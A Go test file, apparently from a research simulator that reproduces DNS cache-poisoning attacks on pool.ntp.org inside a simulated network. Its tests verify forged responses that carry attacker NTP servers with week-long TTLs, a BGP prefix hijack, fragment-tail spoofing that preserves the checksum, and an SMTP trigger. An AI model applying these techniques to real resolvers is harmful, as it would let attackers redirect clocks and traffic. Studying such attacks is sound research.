package attack

import (
	"testing"
	"time"

	"chronosntp/internal/dnsresolver"
	"chronosntp/internal/dnsserver"
	"chronosntp/internal/dnswire"
	"chronosntp/internal/simnet"
)

var (
	rootIP       = simnet.IPv4(198, 41, 0, 4)
	ntpOrgIP     = simnet.IPv4(198, 51, 100, 10)
	resolverIP   = simnet.IPv4(10, 0, 0, 53)
	attackerIP   = simnet.IPv4(66, 66, 0, 1)
	attackerNSIP = simnet.IPv4(66, 66, 0, 53)
)

// evilServers returns n attacker NTP-server addresses.
func evilServers(n int) []simnet.IP {
	out := make([]simnet.IP, n)
	for i := range out {
		out[i] = simnet.IPv4(66, 0, byte(i/250), byte(i%250+1))
	}
	return out
}

// topo wires root → ntp.org (pool zone) → resolver, plus attacker hosts.
type topo struct {
	net        *simnet.Network
	root       *dnsserver.Authoritative
	resolver   *dnsresolver.Resolver
	attacker   *simnet.Host
	attackerNS *simnet.Host
	stub       *dnsresolver.Stub // attacker's open-resolver access
}

func newTopo(t *testing.T, seed int64, resolverCfg dnsresolver.Config) *topo {
	t.Helper()
	n := simnet.New(simnet.Config{Seed: seed})

	rootHost, _ := n.AddHost(rootIP)
	rootSrv, err := dnsserver.New(rootHost)
	if err != nil {
		t.Fatal(err)
	}
	rootZone := dnsserver.NewDelegatingZone("")
	rootZone.Delegate(dnsserver.Delegation{
		Child: "ntp.org", NSTTL: 3600,
		Glue: []dnsserver.NSGlue{{Name: "ns1.ntp.org", IP: ntpOrgIP, TTL: 3600}},
	})
	if err := rootSrv.AddZone("", rootZone); err != nil {
		t.Fatal(err)
	}

	ntpHost, _ := n.AddHost(ntpOrgIP)
	ntpSrv, err := dnsserver.New(ntpHost)
	if err != nil {
		t.Fatal(err)
	}
	benign := make([]simnet.IP, 200)
	for i := range benign {
		benign[i] = simnet.IPv4(203, 0, byte(i/200), byte(i%200+1))
	}
	pool, err := dnsserver.NewPoolZone(dnsserver.PoolConfig{Name: "pool.ntp.org"}, n.Now(), benign)
	if err != nil {
		t.Fatal(err)
	}
	if err := ntpSrv.AddZone("pool.ntp.org", pool); err != nil {
		t.Fatal(err)
	}

	resHost, _ := n.AddHost(resolverIP)
	res, err := dnsresolver.New(resHost, resolverCfg, []dnsresolver.Hint{
		{Zone: "", Addr: simnet.Addr{IP: rootIP, Port: 53}},
	})
	if err != nil {
		t.Fatal(err)
	}

	attHost, _ := n.AddHost(attackerIP)
	attNSHost, _ := n.AddHost(attackerNSIP)
	stub := dnsresolver.NewStub(attHost, res.Addr(), 0)

	return &topo{
		net: n, root: rootSrv, resolver: res,
		attacker: attHost, attackerNS: attNSHost, stub: stub,
	}
}

func TestForgeResponseEDNSCarries89(t *testing.T) {
	forge := &ResponseForge{PoolName: "pool.ntp.org", Servers: evilServers(200)}
	q := dnswire.NewQuery(1, "pool.ntp.org", dnswire.TypeA)
	q.SetEDNS(dnswire.EthernetMaxPayload)
	resp, err := forge.Response(q)
	if err != nil {
		t.Fatal(err)
	}
	if len(resp.Answers) != 89 {
		t.Errorf("forged answers = %d, want 89", len(resp.Answers))
	}
	b, err := resp.Encode()
	if err != nil {
		t.Fatal(err)
	}
	if len(b) > dnswire.EthernetMaxPayload {
		t.Errorf("forged response %d bytes exceeds non-fragmented limit", len(b))
	}
	for _, rr := range resp.Answers {
		if rr.TTL != uint32(DefaultForgedTTL/time.Second) {
			t.Fatalf("TTL = %d, want 7 days", rr.TTL)
		}
	}
}

func TestForgeResponseClassic512Carries30(t *testing.T) {
	forge := &ResponseForge{PoolName: "pool.ntp.org", Servers: evilServers(200)}
	q := dnswire.NewQuery(1, "pool.ntp.org", dnswire.TypeA)
	resp, err := forge.Response(q)
	if err != nil {
		t.Fatal(err)
	}
	if len(resp.Answers) != 30 {
		t.Errorf("classic forged answers = %d, want 30", len(resp.Answers))
	}
}

func TestForgeRecordsCap(t *testing.T) {
	forge := &ResponseForge{PoolName: "pool.ntp.org", Servers: evilServers(10), TTL: time.Hour}
	if got := len(forge.Records(0)); got != 10 {
		t.Errorf("Records(0) = %d", got)
	}
	if got := len(forge.Records(3)); got != 3 {
		t.Errorf("Records(3) = %d", got)
	}
	if forge.Records(1)[0].TTL != 3600 {
		t.Error("custom TTL ignored")
	}
}

func TestBGPHijackEndToEnd(t *testing.T) {
	tp := newTopo(t, 111, dnsresolver.Config{EDNSSize: 4096})
	forge := &ResponseForge{PoolName: "pool.ntp.org", Servers: evilServers(89)}
	// Hijack the prefix containing the ntp.org nameserver.
	hj := NewBGPHijacker(tp.net, forge, simnet.IPv4(198, 51, 100, 0), 24)
	hj.Announce()
	if !hj.active {
		t.Fatal("hijack not active")
	}

	var got dnsresolver.Result
	tp.stub.Lookup("pool.ntp.org", dnswire.TypeA, func(r dnsresolver.Result) { got = r })
	tp.net.RunFor(30 * time.Second)
	if got.Err != nil {
		t.Fatalf("lookup: %v", got.Err)
	}
	if len(got.RRs) != 89 {
		t.Fatalf("answers = %d, want 89 forged records", len(got.RRs))
	}
	if got.RRs[0].TTL < 86400 {
		t.Errorf("forged TTL = %d, want multi-day", got.RRs[0].TTL)
	}
	if hj.Hijacked == 0 {
		t.Error("no hijacked queries counted")
	}

	// The poisoned entry persists: a query 23 hours later is a cache hit.
	tp.net.RunFor(23 * time.Hour)
	before := tp.resolver.Stats().UpstreamQueries
	var later dnsresolver.Result
	tp.stub.Lookup("pool.ntp.org", dnswire.TypeA, func(r dnsresolver.Result) { later = r })
	tp.net.RunFor(10 * time.Second)
	if later.Err != nil || len(later.RRs) != 89 {
		t.Fatal("poisoned cache entry did not persist 23h")
	}
	if tp.resolver.Stats().UpstreamQueries != before {
		t.Error("cache-pinned query still went upstream")
	}

	// Withdraw: new names resolve genuinely again.
	hj.Withdraw()
	if hj.active {
		t.Error("still active after withdraw")
	}
}

func TestBGPHijackDropsNonTargetTraffic(t *testing.T) {
	tp := newTopo(t, 112, dnsresolver.Config{Timeout: time.Second})
	forge := &ResponseForge{PoolName: "pool.ntp.org", Servers: evilServers(10)}
	hj := NewBGPHijacker(tp.net, forge, simnet.IPv4(198, 51, 100, 0), 24)
	hj.Announce()
	// A non-pool query into the hijacked prefix gets black-holed →
	// resolver times out.
	var got dnsresolver.Result
	gotSet := false
	tp.stub.Lookup("other.ntp.org", dnswire.TypeA, func(r dnsresolver.Result) { got, gotSet = r, true }) //nolint
	tp.net.RunFor(time.Minute)
	if !gotSet || got.Err == nil {
		t.Error("black-holed query should fail")
	}
	if hj.Dropped == 0 {
		t.Error("no dropped packets counted")
	}
}

func TestCraftPoisonedTailPreservesChecksum(t *testing.T) {
	q := dnswire.NewQuery(7, "pool.ntp.org", dnswire.TypeA)
	r := q.Reply()
	r.Authority = []dnswire.RR{dnswire.NSRecord("ntp.org", 3600, "ns1.ntp.org")}
	r.Additional = []dnswire.RR{dnswire.ARecord("ns1.ntp.org", 3600, [4]byte(ntpOrgIP))}
	genuine, err := r.Encode()
	if err != nil {
		t.Fatal(err)
	}
	const tailStart = 40 // MTU 68: first fragment covers datagram bytes [0,48) = payload [0,40)
	mod, err := CraftPoisonedTail(genuine, "ns1.ntp.org", attackerNSIP, 0x00090000, tailStart, simnet.UDPHeaderSize)
	if err != nil {
		t.Fatal(err)
	}
	if len(mod) != len(genuine) {
		t.Fatalf("length changed: %d vs %d", len(mod), len(genuine))
	}
	// Checksum-relevant sums must match over the spoofed region (and the
	// untouched head is byte-identical).
	for i := 0; i < tailStart; i++ {
		if mod[i] != genuine[i] {
			t.Fatalf("head byte %d modified", i)
		}
	}
	if simnet.OnesComplementSum16(mod) != simnet.OnesComplementSum16(genuine) {
		t.Error("ones-complement sum changed — UDP checksum would fail")
	}
	// Decoded view: glue now points at the attacker with a multi-day TTL.
	dec, err := dnswire.Decode(mod)
	if err != nil {
		t.Fatal(err)
	}
	glue := dec.Additional[0]
	if glue.A != [4]byte(attackerNSIP) {
		t.Errorf("glue A = %v, want attacker", glue.A)
	}
	if glue.TTL < 0x00090000 || glue.TTL > 0x0009FFFF {
		t.Errorf("glue TTL = %d, want within compensation band", glue.TTL)
	}
}

func TestCraftPoisonedTailErrors(t *testing.T) {
	q := dnswire.NewQuery(7, "pool.ntp.org", dnswire.TypeA)
	r := q.Reply()
	r.Additional = []dnswire.RR{dnswire.ARecord("ns1.ntp.org", 3600, [4]byte{1, 2, 3, 4})}
	genuine, _ := r.Encode()
	if _, err := CraftPoisonedTail(genuine, "absent.example", attackerNSIP, 0, 0, 8); err == nil {
		t.Error("missing glue accepted")
	}
	// Record entirely inside the genuine first fragment: not spoofable.
	if _, err := CraftPoisonedTail(genuine, "ns1.ntp.org", attackerNSIP, 0, 4096, 8); err == nil {
		t.Error("head-resident record accepted")
	}
}

func TestOnesComplementHelpers(t *testing.T) {
	if swap16(0xABCD) != 0xCDAB {
		t.Error("swap16 broken")
	}
	if onesComplementDelta(10, 3) != 7 {
		t.Error("delta simple case")
	}
	if onesComplementDelta(3, 10) != 0xFFFF-7 {
		t.Error("delta wrap case")
	}
}

func TestFragPoisonEndToEnd(t *testing.T) {
	// The full §IV chain: force fragmentation → probe → plant spoofed
	// tail → trigger the victim walk → resolver redirected to the
	// attacker nameserver → 89 forged pool records cached for 7 days.
	tp := newTopo(t, 113, dnsresolver.Config{EDNSSize: 4096})
	forge := &ResponseForge{PoolName: "pool.ntp.org", Servers: evilServers(89)}
	if _, err := NewMaliciousNameserver(tp.attackerNS, "ntp.org", forge); err != nil {
		t.Fatal(err)
	}
	poisoner := NewFragPoisoner(tp.attacker, FragPoisonerConfig{
		VictimResolver: resolverIP,
		TargetServer:   simnet.Addr{IP: rootIP, Port: 53},
		GlueName:       "ns1.ntp.org",
		AttackerNS:     attackerNSIP,
		ForcedMTU:      68,
		ResolverEDNS:   4096,
	})
	var plantErr error
	planted := false
	poisoner.Execute("pool.ntp.org", dnswire.TypeA, func(err error) { plantErr, planted = err, true })
	tp.net.RunFor(5 * time.Second)
	if !planted {
		t.Fatal("attack chain never completed")
	}
	if plantErr != nil {
		t.Fatal(plantErr)
	}
	if poisoner.Planted == 0 || poisoner.Probes != 1 {
		t.Errorf("planted=%d probes=%d", poisoner.Planted, poisoner.Probes)
	}

	// The attacker triggers the victim's resolution via the open
	// resolver. The genuine root referral's first fragment reassembles
	// with the planted tail.
	var got dnsresolver.Result
	tp.stub.Lookup("pool.ntp.org", dnswire.TypeA, func(r dnsresolver.Result) { got = r })
	tp.net.RunFor(30 * time.Second)
	if got.Err != nil {
		t.Fatalf("triggered lookup failed: %v", got.Err)
	}
	if len(got.RRs) != 89 {
		t.Fatalf("answers = %d, want 89 forged records", len(got.RRs))
	}
	evil := make(map[[4]byte]bool)
	for _, ip := range evilServers(89) {
		evil[[4]byte(ip)] = true
	}
	for _, rr := range got.RRs {
		if !evil[rr.A] {
			t.Fatalf("non-attacker record %v in poisoned answer", rr.A)
		}
	}
	// Poisoned glue in cache points at the attacker.
	now := tp.net.Now()
	glue, ok := tp.resolver.Cache().Get(now, "ns1.ntp.org", dnswire.TypeA)
	if !ok || glue[0].A != [4]byte(attackerNSIP) {
		t.Fatalf("glue cache: %+v ok=%v", glue, ok)
	}

	// Cache pinning: 20 hours later the forged records are still served
	// without any upstream query.
	tp.net.RunFor(20 * time.Hour)
	before := tp.resolver.Stats().UpstreamQueries
	var later dnsresolver.Result
	tp.stub.Lookup("pool.ntp.org", dnswire.TypeA, func(r dnsresolver.Result) { later = r })
	tp.net.RunFor(10 * time.Second)
	if later.Err != nil || len(later.RRs) != 89 {
		t.Fatal("forged records did not persist")
	}
	if tp.resolver.Stats().UpstreamQueries != before {
		t.Error("pinned entry went upstream")
	}
}

func TestFragPoisonFailsWithoutFragmentation(t *testing.T) {
	// With a normal 1500-byte MTU the referral never fragments: Plant
	// must refuse.
	tp := newTopo(t, 114, dnsresolver.Config{})
	poisoner := NewFragPoisoner(tp.attacker, FragPoisonerConfig{
		VictimResolver: resolverIP,
		TargetServer:   simnet.Addr{IP: rootIP, Port: 53},
		GlueName:       "ns1.ntp.org",
		AttackerNS:     attackerNSIP,
		ForcedMTU:      1500,
	})
	var plantErr error
	planted := false
	poisoner.Execute("pool.ntp.org", dnswire.TypeA, func(err error) { plantErr, planted = err, true })
	tp.net.RunFor(5 * time.Second)
	if !planted || plantErr == nil {
		t.Fatalf("expected ErrNoFragmentation, got %v", plantErr)
	}
}

func TestSMTPTriggerCausesSharedResolverQueries(t *testing.T) {
	tp := newTopo(t, 117, dnsresolver.Config{})
	mailHost, _ := tp.net.AddHost(simnet.IPv4(10, 0, 0, 25))
	mailStub := dnsresolver.NewStub(mailHost, tp.resolver.Addr(), 0)
	trigger, err := NewSMTPTrigger(mailHost, mailStub)
	if err != nil {
		t.Fatal(err)
	}
	if err := SendMail(tp.attacker, trigger.Addr(), "pool.ntp.org"); err != nil {
		t.Fatal(err)
	}
	tp.net.RunFor(30 * time.Second)
	if trigger.Triggered != 1 {
		t.Errorf("triggered = %d, want 1", trigger.Triggered)
	}
	// The mail server's lookups flowed through the shared resolver: the
	// A record for the attacker-chosen name is now cached.
	if _, ok := tp.resolver.Cache().Get(tp.net.Now(), "pool.ntp.org", dnswire.TypeA); !ok {
		t.Error("attacker-chosen name not cached via SMTP trigger")
	}
	if tp.resolver.Stats().ClientQueries < 2 { // MX + A
		t.Errorf("client queries = %d, want >= 2", tp.resolver.Stats().ClientQueries)
	}
}

func TestParseRecipientDomain(t *testing.T) {
	tests := []struct{ in, want string }{
		{"RCPT TO:<probe@pool.ntp.org>", "pool.ntp.org"},
		{"user@Example.COM\r\n", "example.com"},
		{"no-at-sign", ""},
		{"trailing@", ""},
		{"a@b c", "b"},
	}
	for _, tt := range tests {
		if got := parseRecipientDomain(tt.in); got != tt.want {
			t.Errorf("parseRecipientDomain(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
